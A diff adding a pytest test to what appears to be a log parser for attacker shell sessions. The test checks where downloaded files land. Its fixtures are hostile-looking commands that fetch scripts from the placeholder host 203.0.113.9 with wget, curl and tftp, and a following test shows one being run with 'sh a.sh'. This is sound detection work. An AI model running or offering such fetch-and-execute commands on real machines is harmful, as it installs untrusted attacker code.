@@ -39,6 +39,23 @@ def told(lines: list[str], number: int = 0, **how: Any) -> dict[str, Any]:
 
 
 @pytest.mark.parametrize(
+    ("lines", "paths"),
+    [
+        (["cd /opt", "wget http://203.0.113.9/a.sh"], ["/opt/a.sh"]),
+        (["curl http://203.0.113.9/a > /tmp/k"], ["/tmp/k"]),
+        (["for f in a b; do tftp -g -r $f 203.0.113.9; done"], ["/root/a"]),
+        (["curl http://203.0.113.9/a"], None),
+        (["wget -qO- http://203.0.113.9/a"], None),
+    ],
+)
+def test_where_a_fetched_file_lies_is_told_unless_it_is_only_shown(
+    lines: list[str], paths: list[str] | None
+) -> None:
+    assert told(lines).get("fetch.path") == paths
+    assert "fetch.source" in told(lines)
+
+
+@pytest.mark.parametrize(
     ("lines", "origins"),
     [
         (["wget http://203.0.113.9/a.sh", "sh a.sh"], ["fetched"]),
